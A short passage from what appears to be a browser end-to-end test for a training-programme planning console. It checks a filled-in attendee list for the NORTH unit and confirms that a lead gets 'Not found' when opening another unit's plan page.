        "Filled in with the 1 person in NORTH who have not completed it and are not booked on a session of it yet "
        "(2 are)"
    )
    assert [line.split()[0] for line in expected.input_value().split("\n")] == ["710001"]

    page.goto(hq.url + "/console/plan?unit=EAST&programme=upstander")  # another unit's people: not the lead's
    expect(page.get_by_role("heading", name="Not found")).to_be_visible()
